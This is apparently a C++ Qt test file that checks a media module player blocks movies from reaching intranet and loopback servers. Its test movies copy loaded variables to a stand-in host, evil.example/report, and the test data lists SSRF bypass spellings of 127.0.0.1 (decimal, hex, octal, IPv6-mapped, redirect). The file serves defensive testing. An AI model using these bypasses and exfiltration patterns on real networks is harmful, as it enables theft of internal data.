// What a played module may reach, tried with hand-made movies in the real
// window. The "internet" is the loopback proxy the fixture's service runs on,
// the "intranet" a second loopback server: no test traffic leaves loopback.
//
// Each movie loops three frames: the first loads variables from its target
// into _root, the third sends _root's variables to http://evil.example/report
// as a GET query, so the reports tell what reached the movie.

#include "platform/http/address_policy.h"
#include "tests/support/swf.h"
#include "tests/ui/window_fixture.h"

using testsupport::WindowFixture;

class ModuleNetworkTest : public QObject {
    Q_OBJECT

private slots:
    void init();
    void cleanup();

    void intranetIsRefused_data();
    void intranetIsRefused();
    void ownFilesAndPublicDataArrive();

private:
    // Serves a movie whose frames run \p frames at http://evil.example/dir/m.swf,
    // lists it, double-clicks it, and waits for two reports. \returns them.
    QStringList playAndReport(const std::vector<std::string>& frames);
    QStringList reports() const;

    std::unique_ptr<WindowFixture> fx_;
    std::unique_ptr<testsupport::LocalServer> intranet_;
    std::unique_ptr<testsupport::ScopedEnv> direct_;
    std::string movie_;
};

void ModuleNetworkTest::init() {
    intranet_ = std::make_unique<testsupport::LocalServer>();
    intranet_->onAnyGet([this](const httplib::Request& req, httplib::Response& res) {
        intranet_->record(req);
        res.set_content("secret=TOPSECRET", "text/plain");
    });
    fx_ = std::make_unique<WindowFixture>();
    QVERIFY(fx_->active());
    // localhost is reached directly, not through the proxy: the address connected decides.
    direct_ = std::make_unique<testsupport::ScopedEnv>("no_proxy", "localhost");
    const std::string intranet = intranet_->origin();
    const int intranetPort = intranet_->port();
    fx_->answerWith(
        [this, intranet, intranetPort](const httplib::Request& req, httplib::Response& res) {
            const std::string& t = req.target;
            // As a real proxy would, it resolves every spelling of the intranet's
            // address and forwards the request there.
            if (const auto o = platform::originOf(t);
                o && o->port == intranetPort && !platform::isPublicHost(o->host)) {
                httplib::Client inside("127.0.0.1", intranetPort);
                const auto path = t.substr(t.find('/', t.find("://") + 3));
                if (const auto answer = inside.Get(path.c_str()))
                    res.set_content(answer->body, "text/plain");
                return;
            }
            if (t.find("uin=") != std::string::npos)
                res.set_content("<embed src=\"http://evil.example/dir/m.swf\">", "text/html");
            else if (t == "http://evil.example/dir/m.swf")
                res.set_content(movie_, "application/x-shockwave-flash");
            else if (t == "http://evil.example/dir/vars.txt")
                res.set_content("own=beside", "text/plain");
            else if (t == "http://data.example/pub.txt")
                res.set_content("pub=public", "text/plain");
            else if (t == "http://evil.example/redirect")
                res.set_redirect(intranet + "/secret");
            else if (t.starts_with("http://evil.example/report"))
                res.set_content("reported=1", "text/plain");
            else
                res.status = 404;
        });
}

void ModuleNetworkTest::cleanup() {
    fx_.reset();
    direct_.reset();
    intranet_.reset();
}

QStringList ModuleNetworkTest::reports() const {
    QStringList found;
    for (const auto& target : fx_->server().targets())
        if (target.starts_with("http://evil.example/report"))
            found << QString::fromStdString(target);
    return found;
}

QStringList ModuleNetworkTest::playAndReport(const std::vector<std::string>& frames) {
    movie_ = testsupport::scriptedSwf(frames);
    fx_->typeNumber("1");
    QTest::keyClick(fx_->w().numberBox, Qt::Key_Return);
    if (fx_->w().list->rowCount() != 1) return {};
    QTest::mouseDClick(fx_->w().list->viewport(), Qt::LeftButton, {}, fx_->rowCentre(0));
    if (!QTest::qWaitFor([this] { return reports().size() >= 2; }, 30000)) return {};
    return reports();
}

void ModuleNetworkTest::intranetIsRefused_data() {
    const std::string port = std::to_string(intranet_ ? intranet_->port() : 0);
    QTest::addColumn<QString>("target");
    // The port is filled in by the test, when the intranet server exists.
    QTest::newRow("page-relative route") << "module/http/127.0.0.1:PORT/secret";
    QTest::newRow("movie-relative route") << "../module/http/127.0.0.1:PORT/secret";
    QTest::newRow("absolute") << "http://127.0.0.1:PORT/secret";
    QTest::newRow("decimal") << "http://2130706433:PORT/secret";
    QTest::newRow("hexadecimal") << "http://0x7f.0.0.1:PORT/secret";
    QTest::newRow("octal") << "http://0177.0.0.1:PORT/secret";
    QTest::newRow("short") << "http://127.1:PORT/secret";
    QTest::newRow("user info") << "http://x@127.0.0.1:PORT/secret";
    QTest::newRow("leading-zero port") << "http://127.0.0.1:0PORT/secret";
    QTest::newRow("IPv4-mapped IPv6") << "http://[::ffff:127.0.0.1]:PORT/secret";
    QTest::newRow("a name that is loopback") << "http://localhost:PORT/secret";
    QTest::newRow("a public host's redirect") << "http://evil.example/redirect";
}

void ModuleNetworkTest::intranetIsRefused() {
    QFETCH(QString, target);
    target.replace(QStringLiteral("PORT"), QString::number(intranet_->port()));
    const QStringList seen =
        playAndReport({testsupport::avm1::loadVariables(target.toStdString()), "",
                       testsupport::avm1::loadVariables("http://evil.example/report", true)});
    QVERIFY2(seen.size() >= 2, "the movie never reported");
    for (const QString& report : seen)
        QVERIFY2(!report.contains(QStringLiteral("TOPSECRET")), qPrintable(report));
    QVERIFY(intranet_->targets().empty());
}

void ModuleNetworkTest::ownFilesAndPublicDataArrive() {
    const QStringList seen =
        playAndReport({testsupport::avm1::loadVariables("vars.txt") +
                           testsupport::avm1::loadVariables("http://data.example/pub.txt"),
                       "", testsupport::avm1::loadVariables("http://evil.example/report", true)});
    QTRY_VERIFY_WITH_TIMEOUT(reports().filter(QStringLiteral("own=beside")).size() > 0 &&
                                 reports().filter(QStringLiteral("pub=public")).size() > 0,
                             10000);
    QVERIFY(intranet_->targets().empty());
}

int main(int argc, char** argv) {
    return testsupport::runWindowTests<ModuleNetworkTest>(argc, argv);
}

#include "module_network_test.moc"
